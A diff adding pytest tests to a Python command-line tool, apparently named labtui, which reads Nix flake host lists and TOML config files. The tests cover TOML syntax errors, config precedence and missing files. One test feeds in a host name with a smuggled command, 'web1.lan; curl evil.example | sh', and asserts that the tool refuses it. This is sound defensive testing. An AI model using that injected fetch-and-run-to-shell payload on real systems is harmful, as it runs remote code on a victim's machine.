@@ -108,3 +108,39 @@ def test_subprocess_has_no_traceback(nix, flake_copy) -> None:
     proc = subprocess.run([sys.executable, "-m", "labtui", "--flake", str(flake_copy("syntax-error")), "hosts"],
                           capture_output=True, text=True, timeout=60)
     assert proc.returncode == 2 and "Traceback" not in proc.stderr and "syntax error" in proc.stderr
+
+
+def test_injected_hostname_is_refused(nix, flake_copy, capsys) -> None:
+    code, out, err = run(capsys, "--flake", str(flake_copy("injection")), "hosts")
+    assert code == 2 and out == ""
+    assert "refusing host name 'web1.lan; curl evil.example | sh' (deploy.nodes.web1.hostname)" in err
+    assert "contains a space" in err
+
+
+def test_toml_syntax_error_exit_2(nix, flake_copy, capsys) -> None:
+    flake = flake_copy("fleet")
+    (flake / "labtui.toml").write_text('[hosts.web1]\ntags = ["prod"]]\n')
+    code, _, err = run(capsys, "--flake", str(flake), "hosts")
+    assert code == 2
+    assert f"TOML syntax error in {flake / 'labtui.toml'} line 2, column 16: " in err
+    (flake / "labtui.toml").write_text('[hosts.web1]\ntags = ["prod"\n')
+    code, _, err = run(capsys, "--flake", str(flake), "hosts")
+    assert code == 2 and "at the end of the file (line 3): Unclosed array" in err
+
+
+def test_explicit_config_and_user_config(nix, flake_copy, tmp_path, capsys) -> None:
+    import os
+    from pathlib import Path
+
+    flake = flake_copy("fleet")
+    user = Path(os.environ["XDG_CONFIG_HOME"]) / "labtui" / "config.toml"
+    user.parent.mkdir(parents=True)
+    user.write_text('[hosts.db1]\ntags = ["from-user-config"]\n')
+    code, out, _ = run(capsys, "--flake", str(flake), "hosts", "db1")
+    assert code == 0 and "from-user-config" in out
+    other = tmp_path / "other.toml"
+    other.write_text('[hosts.db1]\ntags = ["explicit"]\n')
+    code, out, _ = run(capsys, "--flake", str(flake), "--config", str(other), "hosts", "db1")
+    assert code == 0 and "explicit" in out
+    code, _, err = run(capsys, "--flake", str(flake), "--config", str(tmp_path / "nope.toml"), "hosts")
+    assert code == 2 and "does not exist" in err
